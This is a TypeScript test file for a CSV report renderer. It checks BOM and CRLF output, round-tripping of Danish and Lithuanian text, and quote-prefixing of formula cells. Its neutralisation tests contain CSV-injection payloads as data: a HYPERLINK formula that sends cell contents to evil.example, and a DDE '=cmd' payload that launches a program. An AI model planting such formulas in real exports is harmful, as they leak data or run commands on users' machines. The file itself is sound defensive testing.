import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, renderCsv } from '../csv.js';
import type { ReportTable } from '../report-document.js';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** Parses the file the way a spreadsheet would see it: BOM stripped, every cell as text. */
function parseBack(csv: Buffer, separator: ';' | ','): string[][] {
  return parse(csv, { bom: true, delimiter: separator, relax_column_count: false });
}

const table: ReportTable = {
  columns: [
    { key: 'name', header: 'Navn' },
    { key: 'country', header: 'Land' },
    { key: 'count', header: 'Antal' },
  ],
  rows: [
    { name: 'Æbeløgård ApS', country: 'Kalaallit Nunaat', count: 3 },
    { name: 'Rūta Kazlauskienė', country: 'Lietuva', count: -3 },
    { name: 'æøåÆØÅ', country: null, count: null },
  ],
};

describe('neutraliseCsvCell', () => {
  it.each(['=HYPERLINK("https://evil.example/?q="&A1,"klik")', '@SUM(1)', '+45 12345678', '-1+1', '\t=1+1', '\r=1+1', '=1+1', '-3'])('prefixes %j with a quote', (value) => {
    expect(neutraliseCsvCell(value)).toBe(`'${value}`);
  });

  it.each(['Æbeløgård ApS', 'a=b', 'Kontakt: +45 12345678', '', "'already quoted", ' =spaced'])('leaves %j untouched', (value) => {
    expect(neutraliseCsvCell(value)).toBe(value);
  });
});

describe('renderCsv', () => {
  it('starts with a UTF-8 BOM, writes the header row and uses CRLF line endings', () => {
    const csv = renderCsv(table, { separator: ';' });
    expect(csv.subarray(0, 3).equals(BOM)).toBe(true);
    const text = csv.subarray(3).toString('utf8');
    expect(text.startsWith('Navn;Land;Antal\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it.each([';', ','] as const)('round-trips Danish and Lithuanian letters with separator %j', (separator) => {
    const rows = parseBack(renderCsv(table, { separator }), separator);
    expect(rows).toEqual([
      ['Navn', 'Land', 'Antal'],
      ['Æbeløgård ApS', 'Kalaallit Nunaat', '3'],
      ['Rūta Kazlauskienė', 'Lietuva', '-3'], // a number typed as number is not prefixed
      ['æøåÆØÅ', '', ''],
    ]);
  });

  it.each([';', ','] as const)('round-trips a value containing the separator, quotes and a newline (separator %j)', (separator) => {
    const awkward = 'Firma; "Nord", Syd\nAfdeling 2';
    const rows = parseBack(renderCsv({ columns: [{ key: 'v', header: 'Værdi' }], rows: [{ v: awkward }] }, { separator }), separator);
    expect(rows).toEqual([['Værdi'], [awkward]]);
  });

  it('neutralises formula cells in the data and in the header', () => {
    const hostile: ReportTable = {
      columns: [
        { key: 'a', header: '=cmd|" /C calc"!A0' },
        { key: 'b', header: 'Telefon' },
      ],
      rows: [
        { a: '=HYPERLINK("https://evil.example/?d="&A2,"Se mere")', b: '+45 12345678' },
        { a: '@SUM(1)', b: '-1+1' },
        { a: '\t=1+1', b: '\r=1+1' },
        { a: 'Almindelig tekst', b: 'a=b' },
      ],
    };
    const rows = parseBack(renderCsv(hostile, { separator: ',' }), ',');
    expect(rows).toEqual([
      [`'=cmd|" /C calc"!A0`, 'Telefon'],
      [`'=HYPERLINK("https://evil.example/?d="&A2,"Se mere")`, "'+45 12345678"],
      ["'@SUM(1)", "'-1+1"],
      ["'\t=1+1", "'\r=1+1"],
      ['Almindelig tekst', 'a=b'],
    ]);
  });

  it('writes an empty table as the header row only', () => {
    const csv = renderCsv({ columns: table.columns, rows: [] }, { separator: ';' });
    expect(csv.toString('utf8')).toBe('\uFEFFNavn;Land;Antal\r\n');
  });
});
